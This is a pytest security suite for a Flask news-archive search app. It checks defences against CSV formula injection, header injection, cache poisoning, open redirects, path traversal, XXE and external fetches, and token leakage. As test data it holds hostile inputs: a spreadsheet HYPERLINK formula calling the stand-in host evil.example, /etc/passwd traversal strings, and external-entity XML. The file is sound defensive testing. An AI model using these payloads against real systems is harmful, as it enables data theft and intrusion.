"""Hostile requests and articles do no harm, beyond scripts.

They hold formulas, headers, paths, and addresses that lead elsewhere or fetch.
"""

from __future__ import annotations

import csv
import io
import json
import socket
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from flask import Flask
from flask.testing import FlaskClient

import search
from scripts.faults.common import ROOT
from search.ingest import Cleaned, ingest
from tests.web.pages.conftest import fill
from web import create_app

ELSEWHERE = "evil.example"
PAGES = (
    *(
        "/",
        "/?q=harbour",
        "/article/post/1",
        "/author/Ana%20Ruiz",
        "/browse",
        "/trends?q=harbour",
        "/advanced",
        "/help",
        "/saved",
    ),
    *(
        "/search.atom?q=harbour",
        "/search.rss?q=harbour",
        "/search.json?q=harbour",
        "/opensearch.xml",
        "/facet/author",
    ),
    *(
        "/api/v1",
        "/api/v1/search?q=harbour",
        "/api/v1/articles/post/1",
        "/api/v1/openapi.json",
        "/nowhere",
        "/api/v1/nowhere",
    ),
)


@pytest.fixture
def app() -> Flask:
    """An archive of one article."""
    article = search.Article(
        id="post/1", title="The harbour", authors=("Ana Ruiz",), body=("Nobody asked the harbour.",)
    )
    return create_app(archive=fill([article]))


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    return app.test_client()


@pytest.mark.slow
@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\xa0@", "＝", "＋", "－", "＠"]
)
@pytest.mark.parametrize("name", ["title", "authors", "section", "id", "url", "topics"])
def test_no_cell_of_a_table_is_a_formula(start: str, name: str) -> None:
    """Whatever a field begins with, spreadsheets take the cell for text.

    It begins with an apostrophe where they wouldn't.
    """
    value = f'{start}HYPERLINK("http://{ELSEWHERE}/"&A1)'
    article = search.Article(id="x", title="T", body=("Text.",))
    many = name in ("authors", "topics")
    article = search.Article.from_dict(article.to_dict() | {name: [value] if many else value})
    text = (
        create_app(archive=fill([article])).test_client().get("/search.csv").get_data(as_text=True)
    )
    head, row = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    cell = dict(zip(head, row, strict=True))[name]
    assert cell == f"'{value}"


def test_no_head_of_a_column_is_a_formula(client: FlaskClient) -> None:
    """The table of trends has queries for its heads."""
    for typed in ("=1+1", "＝1", "@SUM(1)", "-1"):
        head = client.get(f"/trends.csv?q={quote(typed)}").get_data(as_text=True).splitlines()[0]
        assert head == f"\ufeffperiod,all articles,'{typed}"


@pytest.mark.slow
@pytest.mark.parametrize(
    "address",
    [
        "/?q={}",
        "/search.csv?q={}",
        "/article/{}",
        "/author/{}",
        "/api/v1/search?q={}",
        "/trends.csv?q={}",
    ],
)
@pytest.mark.parametrize(
    "attack",
    [
        "a\r\nSet-Cookie: x=1",
        "a\nX-Injected: 1",
        "a%0d%0aX-Injected: 1",
        "a\u560d\u560aX-Injected: 1",
    ],
)
def test_no_header_is_injected(client: FlaskClient, address: str, attack: str) -> None:
    """Line ends in an address reach no header of the answer."""
    response = client.get(address.format(quote(attack, safe="%")))
    assert response.status_code < 500
    assert "X-Injected" not in response.headers
    assert "Set-Cookie" not in response.headers
    assert not [name for name, value in response.headers if "\n" in value or "\r" in value]


@pytest.mark.parametrize("given", ["abc12345\r\nX-Injected: 1", "abc12345 <script>", "x" * 1000])
def test_no_header_is_repeated_that_is_not_sound(app: Flask, given: str) -> None:
    """The request id is the only thing of a request's headers that the answer's repeat.

    An unsound one is replaced.
    """
    environ = {"HTTP_X_REQUEST_ID": given}
    response = app.test_client().get("/healthz", environ_overrides=environ)
    assert response.headers["X-Request-ID"] != given
    assert "X-Injected" not in response.headers


HEADERS = {
    "X-Forwarded-Host": ELSEWHERE,
    "X-Forwarded-Proto": "gopher",
    "X-Forwarded-Prefix": f"//{ELSEWHERE}",
    "X-Forwarded-For": "6.6.6.6",
    "X-Forwarded-Port": "666",
    "Forwarded": f"host={ELSEWHERE};proto=gopher",
    "X-Host": ELSEWHERE,
    "X-Original-URL": f"/{ELSEWHERE}",
    "X-Rewrite-URL": f"/{ELSEWHERE}",
    "X-HTTP-Method-Override": "DELETE",
    "X-Script-Name": f"/{ELSEWHERE}",
    "Referer": f"http://{ELSEWHERE}/",
    "Origin": f"http://{ELSEWHERE}",
    "User-Agent": f"<script src=//{ELSEWHERE}>",
    "Cookie": f"morgue={ELSEWHERE}",
}


@pytest.mark.slow
@pytest.mark.parametrize("address", PAGES)
def test_no_cache_can_be_poisoned(client: FlaskClient, address: str) -> None:
    """What a stranger's headers say changes no answer, so that one kept for others is theirs.

    And none may be kept for all.
    """
    plain, forged = client.get(address), client.get(address, headers=HEADERS)
    assert (forged.status_code, forged.headers.get("Location")) == (
        plain.status_code,
        plain.headers.get("Location"),
    )
    assert ELSEWHERE not in forged.get_data(as_text=True)
    assert "gopher" not in forged.get_data(as_text=True)
    assert "public" not in forged.headers.get("Cache-Control", "")


def test_another_host_is_refused_or_answered_with_links_that_name_none(client: FlaskClient) -> None:
    """With a forged Host there is a 400 on a loopback address.

    Where any host is served, pages hold relative addresses.
    """
    assert client.get("/", headers={"Host": ELSEWHERE}).status_code == 400
    article = search.Article(id="post/1", title="The harbour", body=("Text.",))
    any_host = create_app(archive=fill([article], host="0.0.0.0")).test_client()
    for address in ("/", "/?q=harbour", "/browse", "/nowhere"):
        assert ELSEWHERE not in any_host.get(address, headers={"Host": ELSEWHERE}).get_data(
            as_text=True
        ), address
    article_page = any_host.get(
        "/article/post/1", headers={"Host": ELSEWHERE}
    )  # which has its address to pass on
    assert "private" in article_page.headers["Cache-Control"]


@pytest.mark.slow
@pytest.mark.parametrize(
    "path",
    [
        "//evil.example",
        "//evil.example/%2e%2e",
        "/\\evil.example",
        "/%5cevil.example",
        "/http://evil.example",
        "/%09/evil.example",
    ],
)
@pytest.mark.parametrize("prefix", ["", "/article", "/static", "/browse", "/author"])
def test_no_redirect_leads_elsewhere(client: FlaskClient, prefix: str, path: str) -> None:
    """Addresses that some routers mend by a redirect to another site."""
    response = client.get(prefix + path)
    location = response.headers.get("Location", "/")
    assert location.startswith("/"), location
    assert not location.startswith(("//", "/\\")), location


@pytest.mark.slow
@pytest.mark.parametrize(
    "prefix",
    [
        "/static/",
        "/static/x/",
        "/article/",
        "/api/v1/articles/",
        "/cite/ris/",
        "/author/",
        "/facet/",
    ],
)
@pytest.mark.parametrize(
    "path",
    [
        "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd",
        "/etc/passwd",
        "....//....//etc/passwd",
        "..%5c..%5cetc%5cpasswd", "%00/etc/passwd", "../__init__.py",
        "..%c0%af..%c0%afetc/passwd", "../../pyproject.toml",
    ],
)  # fmt: skip
def test_no_path_leads_out(client: FlaskClient, prefix: str, path: str) -> None:
    """Ids, names and files in addresses: none opens a file of the server's."""
    response = client.get(prefix + path)
    assert response.status_code in (200, 308, 404), response.status_code
    text = response.get_data(as_text=True)
    assert "root:" not in text
    assert "create_app" not in text
    assert "[build-system]" not in text


FETCHING = {
    "page.html": (
        f"""<html><head><base href="http://{ELSEWHERE}/">
<link rel="stylesheet" href="//{ELSEWHERE}/s.css">
        <link rel="canonical" href="http://{ELSEWHERE}/canonical"><meta http-equiv="refresh" content="0;url=http://{ELSEWHERE}/">
        <script src="http://{ELSEWHERE}/s.js"></script><title>T</title></head><body><article><h1>T</h1>
        <p>The harbour board met on Monday and decided nothing at all, as it does.</p><img src="http://{ELSEWHERE}/i.png">
        <iframe src="http://{ELSEWHERE}/f"></iframe><object data="http://{ELSEWHERE}/o"></object></article></body></html>"""
    ),
    "entity.xml": (
        '<?xml version="1.0"?><!DOCTYPE nitf SYSTEM'
        f' "http://{ELSEWHERE}/nitf.dtd"><nitf><body><body.content><p>Text.</p>'
        "</body.content></body></nitf>"
    ),
    "outside.xml": (
        "<!DOCTYPE nitf [<!ENTITY x SYSTEM"
        f' "http://{ELSEWHERE}/x">]><nitf><body><body.content><p>&x;</p></body.content>'
        "</body></nitf>"
    ),
    "include.xml": (
        '<nitf xmlns:xi="http://www.w3.org/2001/XInclude"><body><body.content><p><xi:include'
        f' href="http://{ELSEWHERE}/"/>Text.</p></body.content></body></nitf>'
    ),
    "feed.xml": (
        "<rss"
        f' version="2.0"><channel><title>F</title><link>http://{ELSEWHERE}/</link><item><title>T</title><description>Text'
        f' of it.</description><enclosure url="http://{ELSEWHERE}/e" type="audio/mpeg"'
        ' length="1"/></item></channel></rss>'
    ),
    "object.json": json.dumps(
        {
            "title": "T",
            "body": "Text of it.",
            "url": f"http://{ELSEWHERE}/",
            "$ref": f"http://{ELSEWHERE}/",
        }
    ),
    "note.md": (
        f"---\ntitle: T\nurl: http://{ELSEWHERE}/\n---\n![x](http://{ELSEWHERE}/i.png) Text of"
        " it.\n"
    ),
    f"http:..{ELSEWHERE}.txt": (
        "A Title\n\nThe harbour board met on Monday and decided nothing at all.\n"
    ),
}


def test_nothing_is_fetched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Pages, feeds and declarations that point to other machines are read without a connection or
    a name looked up.
    """
    asked: list[Any] = []

    def refuse(*arguments: Any, **_: Any) -> Any:
        asked.append(arguments[-1:])
        raise OSError("no network here")

    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, refuse)
    for name in ("getaddrinfo", "gethostbyname", "create_connection"):
        monkeypatch.setattr(socket, name, refuse)
    for name, text in FETCHING.items():
        (tmp_path / name).write_text(text, "utf-8")
    outcomes = list(ingest([tmp_path, ROOT / "seeds"], jobs=0))
    assert sum(isinstance(outcome, Cleaned) for outcome in outcomes) > 80
    assert asked == []


@pytest.fixture
def guarded(tmp_path: Path) -> tuple[FlaskClient, str]:
    """An archive that asks for a token, and a good one."""
    state = tmp_path / "state"
    _, token = search.TokenStore(state).create("desk", scopes=("search", "export"))
    article = search.Article(id="post/1", title="The harbour", body=("Text.",))
    return (
        create_app(archive=fill([article], access="token", state=str(state))).test_client(),
        token,
    )


def test_a_token_is_never_shown_again(
    guarded: tuple[FlaskClient, str], tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Not in pages, redirects, errors, headers, cookies, logs or metrics, nor in any file.

    Only its hash is kept.
    """
    client, token = guarded
    secret = token.split("_", 2)[2]
    with caplog.at_level("DEBUG"):
        answers = [
            client.get(f"/api/v1/search?q=harbour&api-key={token}"),
            client.get(f"/api/v1/nowhere?api-key={token}"),
            client.get(f"/api/v1/search?page=x&api-key={token}"),
            client.get(f"/?q=harbour&api-key={token}", headers={"Accept": "text/html"}),
            client.get("/api/v1/search", headers={"Authorization": f"Bearer {token}"}),
            client.get("/api/v1/export?q=harbour", headers={"Authorization": f"Bearer {token}"}),
            client.post("/sign-in", data={"token": token, "next": "/?q=harbour"}),
            client.get("/?q=harbour"),
            client.get("/metrics"),
        ]
    assert [answer.status_code for answer in answers] == [
        200,
        404,
        400,
        303,
        200,
        200,
        303,
        200,
        200,
    ]
    for answer in answers[:3] + answers[4:]:
        assert secret not in answer.get_data(as_text=True)
        assert secret not in str(answer.headers)
    assert secret not in caplog.text
    for path in (tmp_path / "state").rglob("*"):
        assert secret.encode() not in (path.read_bytes() if path.is_file() else b"")


@pytest.mark.parametrize(
    "address",
    [
        "/nowhere",
        "/article/nothing",
        "/api/v1/search?page=x",
        "/browse/99999",
        "/facet/nothing",
        "/cite/x/post/1",
    ],
)
def test_errors_tell_no_path_and_no_version(client: FlaskClient, address: str) -> None:
    """Neither in words nor in headers.

    Not of Python, Flask, Werkzeug or Morgue, and no file of the server's.
    """
    response = client.get(address, headers={"Accept": "text/html"})
    assert response.status_code >= 400
    said = (response.get_data(as_text=True) + str(response.headers)).lower()
    for word in (
        "werkzeug",
        "flask",
        "python",
        "gunicorn",
        "traceback",
        ".py",
        "site-packages",
        str(ROOT).lower(),
    ):
        assert word not in said, word


def test_no_query_is_in_metrics_or_told_to_other_sites(client: FlaskClient) -> None:
    """Metrics count routes.

    A link to another site carries no address of ours, and what pages load is ours.
    """
    page = client.get("/?q=informant")
    assert page.headers["Referrer-Policy"] == "same-origin"
    assert "informant" not in client.get("/metrics").get_data(as_text=True)
